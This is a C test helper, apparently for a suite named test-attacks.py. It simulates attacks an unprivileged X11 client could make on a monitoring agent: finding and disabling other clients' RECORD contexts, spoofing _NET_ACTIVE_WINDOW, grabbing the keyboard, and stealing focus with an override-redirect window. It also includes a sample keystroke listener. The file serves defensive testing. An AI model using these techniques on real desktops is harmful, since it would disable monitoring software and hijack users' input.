/* x11-attack.c: what a pupil's own X client can do to the agent, for test-attacks.py. */
/*
 * Runs as an unprivileged user on the pupil's display ($DISPLAY), until killed or for the
 * seconds given:
 *
 *   x11-attack record SECONDS     probes other clients' resource ids with XRecordGetContext
 *                                 and disables every RECORD context it finds
 *                                 (XRecordDisableContext); prints "found N" per context
 *   x11-attack record-victim      a bare RECORD key listener (what the agent used to be):
 *                                 prints "key" per key press, "end of data" when its context
 *                                 is disabled by someone else, then exits
 *   x11-attack flip SECONDS       two 1x1 windows of its own; writes the root's
 *                                 _NET_ACTIVE_WINDOW, alternating between them, every 5 ms
 *   x11-attack grab SECONDS       grabs the keyboard (XGrabKeyboard): keys go to it alone
 *   x11-attack override TITLE SECONDS
 *                                 an override-redirect window (no window manager sees it)
 *                                 named TITLE that takes the input focus
 *
 * Each prints "ready" once the attack runs, so the test can time from there.
 */
#include <X11/Xatom.h>
#include <X11/Xlib.h>
#include <X11/Xlibint.h> /* the resource mask: which ids belong to which client */
#include <X11/Xutil.h>
#include <X11/extensions/record.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int ignore_errors(Display *dpy, XErrorEvent *e)
{
	(void)dpy;
	(void)e;
	return 0;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void say(const char *what)
{
	printf("%s\n", what);
	fflush(stdout);
}

/* Every resource id a client of index 1..127 may have used first, as the review did. */
static int attack_record(Display *dpy, double seconds)
{
	unsigned long mask = dpy->resource_mask;
	unsigned shift = 0;
	double end = now_s() + seconds;
	int found = 0;

	while (((mask >> shift) & 1) && shift < 32)
		shift++;
	say("ready");
	while (now_s() < end) {
		for (unsigned long client = 1; client < 128; client++) {
			for (unsigned long n = 0; n < 64; n++) {
				XRecordContext id = (XRecordContext)((client << shift) | n);
				XRecordState *state = NULL;

				if (!XRecordGetContext(dpy, id, &state) || !state)
					continue;
				if (state->enabled) {
					XRecordDisableContext(dpy, id);
					XSync(dpy, False);
					printf("found 0x%lx\n", (unsigned long)id);
					fflush(stdout);
					found++;
				}
				XRecordFreeState(state);
			}
		}
		usleep(100000);
	}
	printf("disabled %d\n", found);
	return 0;
}

static void on_victim(XPointer closure, XRecordInterceptData *d)
{
	(void)closure;
	if (d->category == XRecordEndOfData) {
		say("end of data");
		exit(0);
	}
	if (d->category == XRecordFromServer && d->data && (d->data[0] & 0x7f) == KeyPress)
		say("key");
	XRecordFreeData(d);
}

static int record_victim(Display *ctrl)
{
	XRecordClientSpec clients = XRecordAllClients;
	XRecordRange *range = XRecordAllocRange();
	Display *data = XOpenDisplay(NULL);
	XRecordContext ctx;

	range->device_events.first = KeyPress;
	range->device_events.last = KeyPress;
	ctx = XRecordCreateContext(ctrl, 0, &clients, 1, &range, 1);
	XSync(ctrl, False);
	say("ready");
	XRecordEnableContext(data, ctx, on_victim, NULL);
	return 0;
}

static Window small_window(Display *dpy, bool override)
{
	XSetWindowAttributes a = {.override_redirect = override};
	Window w = XCreateWindow(dpy, DefaultRootWindow(dpy), override ? 0 : -10, 0,
	                         override ? 200 : 1, override ? 40 : 1, 0, CopyFromParent,
	                         InputOutput, CopyFromParent, CWOverrideRedirect, &a);

	XMapWindow(dpy, w);
	return w;
}

static int attack_flip(Display *dpy, double seconds)
{
	/* Override-redirect: no window manager gives them the focus; only the property lies. */
	Window w[2] = {small_window(dpy, true), small_window(dpy, true)};
	Atom active = XInternAtom(dpy, "_NET_ACTIVE_WINDOW", False);
	double end = now_s() + seconds;
	unsigned long flips = 0;

	XSync(dpy, False);
	say("ready");
	while (now_s() < end) {
		unsigned long id = w[flips % 2];

		XChangeProperty(dpy, DefaultRootWindow(dpy), active, XA_WINDOW, 32, PropModeReplace,
		                (unsigned char *)&id, 1);
		XFlush(dpy);
		flips++;
		usleep(5000);
	}
	printf("flips %lu\n", flips);
	return 0;
}

static int attack_grab(Display *dpy, double seconds)
{
	int r;

	r = XGrabKeyboard(dpy, DefaultRootWindow(dpy), False, GrabModeAsync, GrabModeAsync,
	                  CurrentTime);
	printf("grab %s\n", r == GrabSuccess ? "success" : "failed");
	XSync(dpy, False);
	say("ready");
	usleep((useconds_t)(seconds * 1e6));
	return 0;
}

static int attack_override(Display *dpy, const char *title, double seconds)
{
	Window w = small_window(dpy, true);

	XResizeWindow(dpy, w, 300, 40);
	XStoreName(dpy, w, title);
	XSync(dpy, False);
	usleep(100000);
	XSetInputFocus(dpy, w, RevertToParent, CurrentTime);
	XSync(dpy, False);
	say("ready");
	usleep((useconds_t)(seconds * 1e6));
	return 0;
}

int main(int argc, char **argv)
{
	Display *dpy = XOpenDisplay(NULL);

	if (!dpy || argc < 2) {
		fprintf(stderr, "usage: x11-attack record|record-victim|flip|grab|override ...\n");
		return 2;
	}
	XSetErrorHandler(ignore_errors);
	if (strcmp(argv[1], "record") == 0 && argc == 3)
		return attack_record(dpy, atof(argv[2]));
	if (strcmp(argv[1], "record-victim") == 0)
		return record_victim(dpy);
	if (strcmp(argv[1], "flip") == 0 && argc == 3)
		return attack_flip(dpy, atof(argv[2]));
	if (strcmp(argv[1], "grab") == 0 && argc == 3)
		return attack_grab(dpy, atof(argv[2]));
	if (strcmp(argv[1], "override") == 0 && argc == 4)
		return attack_override(dpy, argv[2], atof(argv[3]));
	fprintf(stderr, "x11-attack: unknown attack %s\n", argv[1]);
	return 2;
}
